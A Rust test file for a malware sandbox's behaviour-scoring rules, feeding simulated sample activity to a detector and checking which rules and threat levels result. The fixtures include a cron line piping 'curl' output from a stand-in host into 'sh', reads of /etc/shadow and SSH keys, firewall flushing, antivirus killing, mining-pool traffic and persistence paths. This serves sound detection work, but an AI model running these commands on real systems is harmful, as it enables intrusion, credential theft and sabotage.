use super::*;
use weir_guest::behaviour::Persistence;

/// A sample that runs, is called `/home/user/s.sh` and does nothing.
fn quiet() -> Behaviour {
    Behaviour {
        ended: "exit 0".into(),
        processes: vec![process(7, 1, "/home/user/s.sh", &["sh", "/home/user/s.sh"])],
        ..Behaviour::default()
    }
}

fn process(pid: u32, parent: u32, path: &str, arguments: &[&str]) -> Process {
    let arguments = arguments.iter().map(|word| (*word).to_owned()).collect();
    Process {
        pid,
        parent,
        path: path.into(),
        arguments,
        user: Some(1000),
        ended: "exit 0".into(),
        ..Process::default()
    }
}

fn runs(path: &str, arguments: &[&str]) -> Behaviour {
    let mut behaviour = quiet();
    behaviour.processes.push(process(8, 7, path, arguments));
    behaviour
}

fn writes(pid: u32, path: &str) -> Behaviour {
    Behaviour {
        files: vec![FileChange { pid, path: path.into(), what: "written".into(), ..FileChange::default() }],
        ..quiet()
    }
}

fn renames(path: &str, to: &str) -> Behaviour {
    let to = Some(to.to_owned());
    let file = FileChange { pid: 7, path: path.into(), what: "renamed".into(), to, ..FileChange::default() };
    Behaviour { files: vec![file], ..quiet() }
}

fn deletes(path: &str, existed: bool) -> Behaviour {
    let file = FileChange { path: path.into(), what: "deleted".into(), existed, ..FileChange::default() };
    Behaviour { files: vec![file], ..quiet() }
}

fn stays(ways: &[(&str, &str)]) -> Behaviour {
    let way = |(what, path): &(&str, &str)| Persistence { path: (*path).into(), what: (*what).into(), at_ms: None };
    Behaviour { persistence: ways.iter().map(way).collect(), ..quiet() }
}

fn network(what: &str, to: &str, detail: &str, host: &str) -> Behaviour {
    let call =
        Network { pid: 7, what: what.into(), to: to.into(), detail: detail.into(), host: host.into(), at_ms: None };
    Behaviour { network: vec![call], ..quiet() }
}

fn acts(what: &str, detail: &str) -> Behaviour {
    Behaviour { acts: vec![Act { pid: 7, what: what.into(), detail: detail.into(), at_ms: None }], ..quiet() }
}

/// Documents that existed before: each is changed in this way, and its content looks random afterwards or not.
fn documents(count: usize, what: &str, end: &str, random: bool) -> Behaviour {
    let file = |n: usize| FileChange {
        path: format!("/home/user/Documents/{n}.txt"),
        what: what.into(),
        to: (what == "renamed").then(|| format!("/home/user/Documents/{n}.txt{end}")),
        existed: true,
        random,
        ..FileChange::default()
    };
    Behaviour { files: (0..count).map(file).collect(), ..quiet() }
}

/// All of them in one sample.
fn all(parts: Vec<Behaviour>) -> Behaviour {
    let mut whole = quiet();
    for part in parts {
        whole.processes.extend(part.processes.into_iter().skip(1));
        whole.files.extend(part.files);
        whole.network.extend(part.network);
        whole.persistence.extend(part.persistence);
        whole.acts.extend(part.acts);
    }
    whole
}

fn judged(behaviour: &Behaviour) -> (Level, Vec<(&'static str, u32)>) {
    let hits = hits(behaviour);
    (level(hits.iter().map(|hit| hit.points).sum()), hits.iter().map(|hit| (hit.rule, hit.points)).collect())
}

/// A name, what was seen, and the rules that should match with their points.
type Case<'a> = (&'a str, Behaviour, &'a [(&'a str, u32)]);

/// Two folders that change places over and over, each time one level deeper: a file has one more name with each step, and not twice as many.
#[test]
fn names_of_files_do_not_multiply() {
    let mut steps = vec![writes(7, "/tmp/w/x")];
    for depth in 0..18 {
        steps.extend([renames("/tmp/w", "/tmp/v"), renames("/tmp/v", &format!("/tmp/w/{depth}"))]);
    }
    let behaviour = all(steps);
    let names = Happenings::new(&behaviour).written.len();
    assert!(names < 1000, "{names}");
    let deepest: String = (0..18).rev().map(|depth| format!("/{depth}")).collect();
    let deepest = all(vec![behaviour, runs(&format!("/tmp/w{deepest}/x"), &["x"])]);
    assert_eq!(judged(&deepest).1, [("runs-written", 3)]);
}

#[test]
fn each_rule_sees_what_it_is_for_and_nothing_else() {
    let table: &[Case] = &[
        ("nothing", quiet(), &[]),
        ("the cloud's passwords", network("http", "169.254.169.254:80", "GET /latest/", ""), &[("asks-cloud", 4)]),
        (
            "a container elsewhere",
            network("http", "198.51.100.7:2375", "POST /containers/create?name=k", "a.example"),
            &[("abuses-services", 6)],
        ),
        (
            "a cron line in a database",
            network("talk", "198.18.1.2:6379", "*/1 * * * * curl -s http://a.example/x | sh", "a.example"),
            &[("abuses-services", 6)],
        ),
        ("a box", network("talk", "198.18.1.2:23", "/bin/busybox MIRAI", "a.example"), &[("abuses-services", 6)]),
        ("a letter about cron", network("talk", "198.18.1.2:25", "see /etc/cron.d/backup", "a.example"), &[]),
        ("a list of containers", network("http", "198.18.1.2:80", "GET /containers/create", "a.example"), &[]),
        ("a script is handed in", network("http", "198.18.1.2:80", "POST /paste #!/bin/sh", "a.example"), &[]),
        ("the whole wire", acts("sniffs", "all packets"), &[("sniffs", 5)]),
        (
            "a text in a name",
            network("dns", "757365727c6465736b7c2f686f6d652f75736572.x.example", "", ""),
            &[("says-in-names", 4)],
        ),
        ("a file server", network("talk", "198.18.1.2:21", "USER anonymous", "a.example"), &[]),
        ("a name", network("dns", "d1a2b3c4e5f60718293a4b5c6d7e8f90.cdn.example", "", ""), &[]),
        ("a page", writes(7, "/home/user/public_html/a.php"), &[("plants-page", 3)]),
        ("papers with other names", documents(9, "renamed", "", false), &[]),
        ("cron", stays(&[("cron", "/etc/cron.d/x")]), &[("stays", 5)]),
        ("a unit", stays(&[("systemd", "/etc/systemd/system/x.service")]), &[("stays", 4)]),
        ("a shell's file", stays(&[("shell", "/home/user/.bashrc")]), &[("stays", 4)]),
        ("aliases", stays(&[("shell", "/home/user/.bash_aliases")]), &[("stays", 2)]),
        (
            "aliases and more",
            stays(&[("shell", "/home/user/.bash_aliases"), ("shell", "/home/user/.zshenv")]),
            &[("stays", 4)],
        ),
        ("in every Python", stays(&[("python", "/usr/lib/python3/dist-packages/x.pth")]), &[("stays", 4)]),
        ("a key for others", stays(&[("ssh", "/home/user/.ssh/authorized_keys")]), &[("stays", 7)]),
        ("ssh was used", stays(&[("ssh", "/home/user/.ssh/known_hosts")]), &[]),
        ("in every program", stays(&[("preload", "/etc/ld.so.preload")]), &[("stays", 8)]),
        ("twice one way", stays(&[("cron", "/etc/cron.d/x"), ("cron", "/etc/crontab")]), &[("stays", 5)]),
        ("two ways", stays(&[("cron", "/etc/cron.d/x"), ("shell", "/home/user/.profile")]), &[("stays", 7)]),
        (
            "every way",
            stays(&[("cron", "a"), ("shell", "b"), ("systemd", "c"), ("rc", "d"), ("account", "/etc/passwd")]),
            &[("stays", 8)],
        ),
        ("a name is called", network("connect", "198.18.1.2:80", "", "a.example"), &[]),
        ("an address", network("connect", "203.0.113.5:80", "", ""), &[("raw-address", 2)]),
        ("the own network", network("connect", "10.1.2.3:80", "", ""), &[]),
        ("a time server", network("send", "203.0.113.5:123", "", ""), &[]),
        (
            "a pool's words",
            network("talk", "198.18.1.2:4000", "{\"method\":\"mining.subscribe\"}", ""),
            &[("mines", 10)],
        ),
        (
            "a pool's words, spaced",
            network("talk", "198.18.1.2:4000", "{ \"method\" : \"login\" }", ""),
            &[("mines", 10)],
        ),
        ("it sleeps", acts("sleeps", "3600 s"), &[("waits", 2)]),
        ("it naps", acts("sleeps", "5 s"), &[]),
        ("a second stage", acts("second-stage", "http://a.example/x"), &[("runs-fetched", 5)]),
        (
            "itself from memory",
            Behaviour {
                sample: "/home/user/s".into(),
                processes: vec![Process { pid: 6, path: "/memfd:x (deleted)".into(), ..Process::default() }],
                ..Behaviour::default()
            },
            &[("runs-from-memory", 5)],
        ),
        ("a pool's name", network("dns", "gulf.moneroocean.stream", "", ""), &[("mines", 8)]),
        ("a pool's port", network("connect", "198.18.1.2:3333", "", "a.example"), &[("mines", 3)]),
        ("a chat", network("talk", "198.18.1.2:6667", "NICK bot", ""), &[("chats", 4)]),
        ("mail", network("talk", "198.18.1.2:25", "EHLO a", ""), &[]),
        ("a server", network("listen", "0.0.0.0:8080", "", ""), &[("listens", 1)]),
        ("a server for itself", network("listen", "127.0.0.1:8080", "", ""), &[]),
        ("it is gone", deletes("/home/user/s.sh", true), &[("deletes-itself", 3)]),
        ("something is gone", deletes("/tmp/x", false), &[]),
        ("a log is gone", deletes("/var/log/auth.log", true), &[("wipes-traces", 4)]),
        ("its own log is gone", deletes("/var/log/own.log", false), &[]),
        ("passwords", acts("reads", "/etc/shadow"), &[("reads-passwords", 5)]),
        ("keys", acts("reads", "/home/user/.ssh/id_rsa"), &[("reads-keys", 5)]),
        ("all keys, elsewhere", acts("reads", "/home/user/.ssh"), &[("reads-keys", 5)]),
        ("the kernel", acts("reads", "/proc/kcore"), &[("reads-memory", 6)]),
        ("who watches", acts("reads", "/proc/self/status"), &[("lies-low", 1)]),
        ("everybody", acts("kills", "9 -1"), &[("kills-others", 4)]),
        ("by name", runs("/usr/bin/pkill", &["pkill", "-f", "xmrig"]), &[("kills-others", 4)]),
        ("a guard", runs("/usr/bin/pkill", &["pkill", "-9", "clamd"]), &[("stops-guards", 6)]),
        (
            "a guard's service",
            runs("/usr/bin/systemctl", &["/bin/sh", "/usr/bin/systemctl", "stop", "auditd"]),
            &[("stops-guards", 6)],
        ),
        ("a service", runs("/usr/bin/systemctl", &["/bin/sh", "/usr/bin/systemctl", "stop", "cups"]), &[]),
        ("no walls", runs("/sbin/iptables", &["iptables", "-F"]), &[("stops-guards", 6)]),
        ("another", acts("traces", "1"), &[("traces-others", 5)]),
        ("itself", acts("traces", "itself"), &[("hinders-tracing", 3)]),
        ("a shell on a line", acts("takes-orders", "/bin/sh"), &[("takes-orders", 8)]),
        ("a program on a line", acts("takes-orders", "/usr/bin/cat"), &[("takes-orders", 3)]),
        ("a library", acts("preloads", "LD_PRELOAD=/tmp/x.so"), &[("preloads", 3)]),
        ("as its owner", acts("setuid", "/tmp/sh"), &[("makes-setuid", 6)]),
        ("into the kernel", acts("loads", ""), &[("loads-module", 8)]),
        ("a disk", acts("device", "/dev/sda"), &[("writes-devices", 6)]),
        ("an end", acts("reboots", ""), &[("reboots", 5)]),
        ("another's name", acts("named", "[kworker/0:1]"), &[("pretends", 6)]),
        ("another's name at once", runs("/tmp/x", &["[kthreadd]"]), &[("pretends", 6)]),
        ("a file of another's name", runs("/home/user/[kswapd0]", &["./[kswapd0]"]), &[("pretends", 6)]),
        ("a test", runs("/usr/bin/[", &["[", "1", "]"]), &[]),
        ("from memory", runs("/memfd:x (deleted)", &["x"]), &[("runs-from-memory", 5)]),
        ("what it wrote", all(vec![writes(7, "/tmp/x"), runs("/tmp/x", &["/tmp/x"])]), &[("runs-written", 3)]),
        (
            "what it wrote, in a folder with another name",
            all(vec![writes(7, "/tmp/d/x"), renames("/tmp/d", "/tmp/e"), runs("/tmp/e/x", &["/tmp/e/x"])]),
            &[("runs-written", 3)],
        ),
        (
            "what it wrote, by a shell",
            all(vec![writes(7, "/tmp/x"), runs("/bin/busybox", &["ash", "/tmp/x"])]),
            &[("runs-written", 3)],
        ),
        ("what it wrote is read", all(vec![writes(7, "/tmp/x"), runs("/bin/busybox", &["cat", "/tmp/x"])]), &[]),
        (
            "what it fetched",
            all(vec![
                writes(7, "/tmp/x"),
                runs("/tmp/x", &["/tmp/x"]),
                network("connect", "198.18.1.2:80", "", "a.example"),
            ]),
            &[("runs-fetched", 5)],
        ),
        (
            "what it fetched is no program",
            all(vec![
                writes(7, "/tmp/x"),
                acts("fails-to-run", "/tmp/x"),
                network("connect", "198.18.1.2:80", "", "a"),
            ]),
            &[("runs-fetched", 5)],
        ),
        ("encrypted", documents(12, "written", "", true), &[("encrypts", 10)]),
        ("encrypted and renamed", documents(12, "renamed", ".locked", true), &[("encrypts", 10)]),
        ("packed", documents(12, "renamed", ".gz", true), &[("changes-many", 5)]),
        ("rewritten", documents(12, "written", "", false), &[("changes-many", 5)]),
        ("one rewritten", documents(1, "written", "", true), &[]),
    ];
    for (what, behaviour, expected) in table {
        assert_eq!(judged(behaviour).1, *expected, "{what}");
    }
}

#[test]
fn what_comes_together_decides() {
    let shell = || network("connect", "203.0.113.5:4444", "", "");
    let fetched = || {
        all(vec![
            writes(7, "/tmp/x"),
            runs("/tmp/x", &["/tmp/x"]),
            network("connect", "198.18.1.2:80", "", "a.example"),
        ])
    };
    let daemon = || Behaviour {
        processes: vec![process(7, 1, "/home/user/s", &["s"]), process(8, 7, "/home/user/s", &["s"])],
        acts: vec![Act { pid: 8, what: "session".into(), ..Act::default() }],
        ..quiet()
    };
    for (what, behaviour, expected) in [
        (
            "a file, a connection and a child",
            all(vec![
                writes(7, "/tmp/x"),
                runs("/bin/sleep", &["sleep", "1"]),
                network("connect", "203.0.113.5:80", "", ""),
            ]),
            Level::Info,
        ),
        (
            "a server that goes into the background",
            all(vec![daemon(), network("listen", "0.0.0.0:80", "", "")]),
            Level::Info,
        ),
        (
            "an archive that unpacks and removes itself",
            all(vec![writes(7, "/tmp/x"), runs("/tmp/x", &["/tmp/x"])]),
            Level::Info,
        ),
        (
            "an installer that fetches, runs and adds to the path",
            all(vec![fetched(), stays(&[("shell", "/home/user/.profile")])]),
            Level::Suspicious,
        ),
        (
            "one that adds a service, a user and a path",
            stays(&[("systemd", "a"), ("account", "/etc/passwd"), ("shell", "b")]),
            Level::Suspicious,
        ),
        ("a backup of keys", acts("reads", "/home/user/.ssh/id_rsa"), Level::Suspicious),
        (
            "a dropper that comes back by cron",
            all(vec![fetched(), stays(&[("cron", "/etc/cron.d/x")])]),
            Level::Malicious,
        ),
        (
            "a dropper from an address that wipes itself",
            all(vec![fetched(), network("connect", "203.0.113.5:80", "", ""), deletes("/home/user/s.sh", true)]),
            Level::Malicious,
        ),
        ("a shell for an address", all(vec![shell(), acts("takes-orders", "/bin/sh")]), Level::Malicious),
        (
            "a miner that kills others",
            all(vec![network("dns", "xmr.nanopool.org", "", ""), runs("/usr/bin/pkill", &["pkill", "-f", "x"])]),
            Level::Malicious,
        ),
        (
            "a rootkit",
            all(vec![stays(&[("preload", "/etc/ld.so.preload")]), deletes("/home/user/s.sh", true)]),
            Level::Malicious,
        ),
        ("a ransom", documents(10, "written", "", true), Level::Malicious),
    ] {
        let (level, hits) = judged(&behaviour);
        assert_eq!(level, expected, "{what}: {hits:?}");
    }
}

#[test]
fn a_search_and_a_crowd_are_seen() {
    let mut worm = quiet();
    worm.network = (1..=20).flat_map(|n| network("connect", &format!("203.0.113.{n}:23"), "", "").network).collect();
    assert_eq!(judged(&worm), (Level::Suspicious, vec![("scans", 6), ("raw-address", 2)]));
    let mut crowd = quiet();
    crowd.processes = (0..MANY_PROCESSES as u32).map(|n| process(n, 1, "/bin/sh", &["sh"])).collect();
    assert_eq!(judged(&crowd), (Level::Suspicious, vec![("forks-without-end", 4)]));
}

/// What was not seen in a set of imitations that was written without knowing these rules.
#[test]
fn floods_tunnels_spam_and_quiet_doors_are_seen() {
    let many = |what: &str, of: &dyn Fn(u32) -> (String, String)| {
        let calls = (0..60).map(|n| {
            let (to, detail) = of(n);
            network(what, &to, &detail, "")
        });
        all(calls.collect())
    };
    let flood = many("send", &|n| (format!("203.0.113.{}:{}", n % 50 + 1, 1000 + n), String::new()));
    assert_eq!(judged(&flood), (Level::Suspicious, vec![("floods", 6), ("raw-address", 2)]));
    let tunnel = many("dns", &|n| (format!("{}{n:03}.t.bad.example", "a".repeat(40)), String::new()));
    assert_eq!(judged(&tunnel), (Level::Suspicious, vec![("tunnels", 6)]));
    let names = many("dns", &|n| (format!("img{n}.cdn.example"), String::new()));
    assert_eq!(judged(&names).1, [], "many names alone are a page");
    let spam = many("talk", &|n| ("203.0.113.9:25".into(), format!("rcpt TO:<v{n}@mail.example>")));
    assert_eq!(judged(&spam), (Level::Suspicious, vec![("spams", 5)]));
    let report = all(vec![network("talk", "198.18.0.7:587", "RCPT TO:<me@example.org>", "mail.example.org")]);
    assert_eq!(judged(&report).1, [], "one's own mail");
    assert_eq!(judged(&acts("fails-to-write", "/etc/hosts")).1, [("redirects", 5)]);
    assert_eq!(judged(&acts("fails-to-write", "/var/log/wtmp")).1, [("wipes-traces", 4)]);
    let watched = |ended: &str| Behaviour { ended: ended.into(), ..acts("sleeps", "285 s") };
    assert_eq!(judged(&watched("watched 60 s")), (Level::Suspicious, vec![("waits", 4)]));
    assert_eq!(judged(&watched("exit 0")).1, [("waits", 2)]);
    let mut door = all(vec![network("listen", "0.0.0.0:31337", "", ""), acts("session", "")]);
    door.processes.push(process(8, 7, "/usr/bin/python3", &["python3"]));
    door.network[0].pid = 8;
    door.acts[0].pid = 8;
    assert_eq!(judged(&door), (Level::Suspicious, vec![("listens", 4), ("lies-low", 1)]));
}

#[test]
fn all_rules_are_in_the_page() {
    let page = include_str!("../../../../../docs/lab.md");
    for (rule, _) in RULES {
        assert!(page.contains(&format!("| `{rule}` |")), "docs/lab.md does not tell of {rule}");
    }
    assert!(page.contains(&format!("from {SUSPICIOUS} on it is suspicious, from {MALICIOUS} on malicious")));
}

#[test]
fn words_of_a_guest_do_no_harm() {
    let long = "x".repeat(5000);
    let odd = all(vec![
        acts("kills", ""),
        acts("reads", &long),
        stays(&[("", ""), ("ssh", "")]),
        network("connect", &long, "", ""),
    ]);
    assert!(hits(&odd).iter().all(|hit| hit.evidence.chars().count() <= EVIDENCE_MAX));
}
